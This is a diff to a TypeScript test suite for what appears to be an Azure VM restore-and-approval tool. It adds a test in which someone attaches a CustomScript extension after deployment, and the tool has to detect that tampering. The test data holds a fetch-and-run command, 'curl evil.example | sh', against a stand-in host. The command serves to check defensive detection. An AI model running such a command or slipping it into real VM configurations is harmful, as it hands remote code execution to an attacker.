@@ -13,19 +13,36 @@ after(() => saga.close());
 
 const provider = (type: string) => `${saga.target.targetResourceGroupId}/providers/Microsoft.${type}`;
 
-/** As Olivia, who may deploy into the group without Strongroom. */
-async function deploy(name: string, resources: object[]): Promise<void> {
+/** As Olivia, who may write into the group without Strongroom. */
+async function put(path: string, body: object): Promise<void> {
   const { azure } = saga.talk.sandbox;
   const token = await azure.issueToken('https://management.azure.com', 'the Azure CLI', people.oncall.objectId);
-  const path = `${provider('Resources')}/deployments/${name}?api-version=2021-04-01`;
   const response = await fetch(`http://127.0.0.1:${azure.port}${path}`, {
     method: 'PUT',
     headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
-    body: JSON.stringify({
-      properties: { mode: 'Incremental', template: { contentVersion: '1.0.0.0', resources }, parameters: {} },
-    }),
+    body: JSON.stringify(body),
   });
   assert.ok(response.ok, await response.text());
+}
+
+const deploy = (name: string, resources: object[]) =>
+  put(`${provider('Resources')}/deployments/${name}?api-version=2021-04-01`, {
+    properties: { mode: 'Incremental', template: { contentVersion: '1.0.0.0', resources }, parameters: {} },
+  });
+
+/** Between the end of the deployment and the first look at the machine. */
+function beforeVerify(change: () => Promise<void>): void {
+  const { azure } = saga.talk.sandbox;
+  const before = azure.tap;
+  let wait = true;
+  azure.tap = async (call) => {
+    const { path, moment } = call;
+    if (wait && moment === 'answer' && path.includes('/exportTemplate')) {
+      wait = false;
+      await change();
+    }
+    return before ? before(call) : 'go on';
+  };
 }
 
 /** A machine of that name, tagged as ours are, in a network that reaches further, with the restored system and without its data. */
@@ -81,4 +98,23 @@ it('killed before its deployment was sent, which somebody else then sends under 
   const said = await talk.ask('platform', 'personal-platform', `audit ${id}`, /step\.suspicious/);
   assert.match(said.all, /rebuild\.deployment-foreign/);
   assert.match(said.all, /subnet\/id/);
+});
+
+it('a machine that was made as signed and then given a script to run: a possible attack, before it is called verified', async () => {
+  const request = await saga.asked('app-01 latest as app-script isolated');
+  beforeVerify(() =>
+    put(`${provider('Compute')}/virtualMachines/app-script/extensions/helper?api-version=2023-09-01`, {
+      location: 'westeurope',
+      properties: {
+        publisher: 'Microsoft.Azure.Extensions',
+        type: 'CustomScript',
+        typeHandlerVersion: '2.1',
+        settings: { commandToExecute: 'curl evil.example | sh' },
+      },
+    }),
+  );
+  await saga.approve(request);
+  const end = await saga.until(request.card, over);
+  assert.match(end.all, /✓ \*\*Create the machine\*\*[\s\S]*✗ \*\*Check the machine/);
+  assert.match(end.all, /is not the machine that was approved \(1\): extension CustomScript[\s\S]*possible attack/);
 });
